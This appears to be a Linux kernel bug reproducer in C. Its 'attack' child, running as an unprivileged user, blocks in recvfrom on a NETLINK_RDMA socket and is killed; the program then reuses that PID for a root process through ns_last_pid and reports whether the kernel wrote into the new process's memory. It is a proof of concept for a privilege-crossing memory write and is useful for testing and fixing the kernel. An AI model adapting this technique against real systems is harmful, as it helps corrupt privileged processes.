// Run by root. An ordinary user's process waits for an answer at an address of its choice and is
// killed; its PID goes to a process of root's. Prints whether the answer went there. Needs a PID
// namespace of its own.
#include <linux/netlink.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

struct shared {
  volatile int dead, ready;
};
static char name[16];
static int room = sizeof name;

static void pass(int milliseconds) {
  poll(NULL, 0, milliseconds);
}

static void wait_for(volatile int* value) {
  for (int i = 0; !*value && i < 1000; ++i) pass(10);
}

static void attack(struct shared* shared) {
  if (setgid(65534) || setuid(65534)) _exit(1);
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_RDMA);
  if (fd < 0) _exit(1);
  pid_t asker = fork();
  if (asker == 0) {
    char buffer[64];
    syscall(SYS_recvfrom, fd, buffer, sizeof buffer, 0, name, &room);
    _exit(0);
  }
  pass(300);
  kill(asker, SIGKILL);
  waitpid(asker, NULL, 0);
  shared->dead = asker;
  wait_for(&shared->ready);
  shutdown(fd, SHUT_RDWR);
  _exit(0);
}

static int was_written(struct shared* shared) {
  shared->ready = 1;
  for (int i = 0; i < 50; ++i) {
    pass(20);
    if (((volatile char*)name)[0]) return 1;
  }
  return 0;
}

// The next process gets the PID behind the one in the file.
static pid_t fork_as(pid_t wanted, struct shared* shared) {
  for (int i = 0; i < 20; ++i) {
    FILE* last = fopen("/proc/sys/kernel/ns_last_pid", "w");
    if (!last) return -1;
    fprintf(last, "%d", wanted - 1);
    if (fclose(last)) return -1;
    pid_t got = fork();
    if (got == 0) _exit(getpid() == wanted ? was_written(shared) : 0);
    if (got == wanted) return got;
    waitpid(got, NULL, 0);
  }
  return -1;
}

int main(void) {
  struct shared* shared =
      mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  pid_t attacker = fork();
  if (attacker == 0) attack(shared);
  wait_for(&shared->dead);
  int status = -1;
  pid_t other = shared->dead ? fork_as(shared->dead, shared) : -1;
  if (other < 0) return puts("no reuse"), 1;
  waitpid(other, &status, 0);
  puts(status == 0 ? "untouched" : "written");
  kill(attacker, SIGKILL);
  return 0;
}
